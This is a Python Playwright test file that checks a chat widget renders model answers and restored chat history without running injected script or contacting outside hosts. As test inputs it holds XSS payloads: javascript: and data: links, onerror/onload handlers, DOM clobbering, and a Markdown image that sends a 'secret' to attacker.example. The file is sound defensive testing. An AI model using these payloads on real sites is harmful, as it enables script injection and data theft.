"""Rendering answers safely: public XSS corpora rendered in Chromium, live and restored.

The corpora are read in place from ../shared/corpus; without them these tests fail.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest
from pages import host_page, log, send
from playwright.sync_api import Page, Route, expect
from servers import ROOT

CORPUS = ROOT.parent / "shared" / "corpus" / "xss"
TRAPS = """
window.__ran = [];
for (const name of ['alert', 'confirm', 'prompt', 'print']) {
  window[name] = (...args) => { window.__ran.push([name, String(args[0])]); };
}
"""
# What the final DOM of every message is checked for (evaluated in the page).
AUDIT = (Path(__file__).parent / "audit.js").read_text()


def corpus_file(name: str) -> Path:
    path = CORPUS / name
    if not path.is_file():
        pytest.fail(f"the XSS corpus {path} was not found: ../shared/corpus must be present")
    return path


def dompurify_payloads() -> list[str]:
    cases = json.loads(corpus_file("dompurify-payloads.json").read_text())
    assert len(cases) == 223
    return [case["payload"] for case in cases]


def markdown_it_cases() -> list[str]:
    """The inputs of markdown-it's XSS fixtures: blocks of description, input, output."""
    lines = corpus_file("markdown-it-xss.txt").read_text().split("\n")
    inputs: list[str] = []
    dots = [i for i, line in enumerate(lines) if line == "."]
    for start in range(0, len(dots) - 2, 3):
        inputs.append("\n".join(lines[dots[start] + 1 : dots[start + 1]]))
    assert len(inputs) >= 12
    return inputs


def hostile_inputs() -> list[str]:
    extra = [
        "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1))",
        "[d](%6Aavascript:alert(1))",
        "[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[f](vbscript:msgbox(1)) [g](file:///etc/passwd) [h](&#x6A;avascript:alert(1))",
        "<javascript:alert(1)> <https://ok.example/path>",
        "![leak](https://attacker.example/collect?c=secret) ![x](http://attacker.example/a.png)",
        '<img src=x onerror=alert(1)> <svg onload=alert(1)> <iframe src="javascript:alert(1)">',
        '<form id="chat"><input name="attributes"></form> <a id="__ran" name="x">clobber</a>',
        "<style>* { display: none }</style><meta http-equiv=refresh content=0;url=https://x.example>",
    ]
    return dompurify_payloads() + markdown_it_cases() + extra


@pytest.fixture
def guarded(page: Page) -> list[str]:
    """Traps dialogs and records every request to a host other than the server's."""
    page.add_init_script(TRAPS)
    outside: list[str] = []
    page.on("dialog", lambda dialog: (outside.append("dialog " + dialog.message), dialog.dismiss()))

    def watch(route: Route) -> None:
        host = urlparse(route.request.url).hostname
        if host in ("127.0.0.1", "localhost"):
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    page.route("**/*", watch)
    return outside


def audit(page: Page, outside: list[str], expected_articles: int) -> None:
    page.wait_for_timeout(300)  # give anything that would fire (onerror, onload) the chance to
    result: dict[str, Any] = page.evaluate(AUDIT)
    assert result["articles"] >= expected_articles
    assert result["ran"] == [], result["ran"][:5]
    assert result["problems"] == [], result["problems"][:10]
    assert outside == [], outside[:10]


def stream_body(text: str) -> str:
    chunks = [text[i : i + 400] for i in range(0, len(text), 400)]
    events = [
        {"choices": [{"index": 0, "delta": {"content": chunk}, "finish_reason": None}]}
        for chunk in chunks
    ]
    events.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    return "".join(f"data: {json.dumps(e)}\n\n" for e in events) + "data: [DONE]\n\n"


def answer_with(page: Page, *answers: str) -> None:
    """The model answers each next request with the next of `answers`, streamed."""
    remaining = iter(answers)
    page.route(
        "**/api/chat/completions",
        lambda route: route.fulfill(
            status=200, content_type="text/event-stream", body=stream_body(next(remaining))
        ),
    )


def test_hostile_answers_streamed_live_run_nothing(page: Page, guarded: list[str]) -> None:
    host_page(page, 'history="memory"')
    payloads = hostile_inputs()
    batches = [payloads[i : i + 40] for i in range(0, len(payloads), 40)]
    answer_with(page, *("\n\n".join(batch) for batch in batches))
    for number in range(len(batches)):
        send(page, f"Answer batch {number}")
    expect(log(page).locator("article[data-role=assistant]")).to_have_count(len(batches))
    audit(page, guarded, 2 * len(batches))


def test_hostile_history_restored_runs_nothing(page: Page, guarded: list[str]) -> None:
    host_page(page, 'history="memory"')
    messages: list[dict[str, Any]] = []
    for number, payload in enumerate(hostile_inputs()):
        call = {
            "id": f"c{number}",
            "type": "function",
            "function": {"name": "t", "arguments": "{}"},
        }
        messages += [
            {"role": "user", "content": payload},
            {"role": "assistant", "content": None, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": f"c{number}", "name": "t", "content": payload},
            {"role": "assistant", "content": payload},
        ]
    snapshot = {
        "version": 1, "id": "hostile", "title": "<img src=x onerror=alert(1)>", "created": 1,
        "updated": 2, "model": "demo", "thinking": "off", "messages": messages,
    }  # fmt: skip
    page.evaluate("s => document.querySelector('chat-widget').session.restore(s)", snapshot)
    expect(log(page).locator("article[data-role=tool]")).to_have_count(len(hostile_inputs()))
    expect(page.get_by_role("heading", level=2)).to_have_text("<img src=x onerror=alert(1)>")
    audit(page, guarded, len(messages))


def test_markdown_reads_well(page: Page, guarded: list[str]) -> None:
    host_page(page, 'history="memory"')
    answer = (
        "Some *emphasis*, **strong** and `code`.\n\n- one\n- two\n\n1. first\n2. second\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "[a link](https://example.com/docs) and mail@example.com\n\n"
        "```python\nprint('hi')\n```\n\n![diagram](https://images.example/d.png)"
    )
    answer_with(page, answer)
    send(page, "Show me Markdown")
    body = log(page).locator("article[data-role=assistant] .body")
    expect(body.locator("em")).to_have_text("emphasis")
    expect(body.locator("strong")).to_have_text("strong")
    expect(body.locator("ul li")).to_have_count(2)
    expect(body.locator("ol li")).to_have_count(2)
    expect(body.locator("table td")).to_have_text(["1", "2"])
    link = body.get_by_role("link", name="a link")
    expect(link).to_have_attribute("href", "https://example.com/docs")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(link).to_have_attribute("target", "_blank")
    expect(body.get_by_role("link", name="mail@example.com")).to_have_attribute(
        "href", "mailto:mail@example.com"
    )
    expect(body.locator("pre code")).to_have_text("print('hi')\n")
    expect(body.locator("img")).to_have_count(0)  # images from unlisted hosts are links
    expect(body.get_by_role("link", name="🖼 diagram")).to_have_attribute(
        "href", "https://images.example/d.png"
    )
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    body.get_by_role("button", name="Copy").click()
    assert page.evaluate("navigator.clipboard.readText()") == "print('hi')\n"
    assert guarded == []


def test_listed_image_hosts_show_inline(page: Page, guarded: list[str]) -> None:
    host_page(page, 'history="memory" image-hosts="localhost"')
    answer = "![chart](https://localhost/chart.png) ![other](https://elsewhere.example/x.png)"
    answer_with(page, answer)
    send(page, "A chart please")
    body = log(page).locator("article[data-role=assistant] .body")
    expect(body.locator("img")).to_have_count(1)
    expect(body.locator("img")).to_have_attribute("src", "https://localhost/chart.png")
    expect(body.locator("img")).to_have_attribute("referrerpolicy", "no-referrer")
    expect(body.get_by_role("link", name="🖼 other")).to_be_visible()


def test_user_messages_are_plain_text(page: Page, guarded: list[str]) -> None:
    host_page(page, 'history="memory"')
    send(page, "**not bold** <b>nor this</b>")
    user = log(page).locator("article[data-role=user] .body")
    expect(user).to_have_text("**not bold** <b>nor this</b>")
    expect(user.locator("b, strong")).to_have_count(0)


def test_streaming_redraws_only_the_answer_being_written(page: Page, guarded: list[str]) -> None:
    host_page(page, 'history="memory"')
    send(page, "My name is Alice")
    first = page.evaluate_handle(
        "document.querySelector('chat-widget').shadowRoot.querySelector('article[data-role=assistant]')"
    )
    page.evaluate(
        """first => { window.__replaced = 0;
        new MutationObserver(records => { for (const r of records)
            for (const node of r.removedNodes) if (node === first) window.__replaced++; })
          .observe(first.parentNode, {childList: true}); }""",
        first,
    )
    send(page, "Tell me a long story" + " with many words" * 20)
    assert page.evaluate("first => first.isConnected", first)
    assert page.evaluate("window.__replaced") == 0
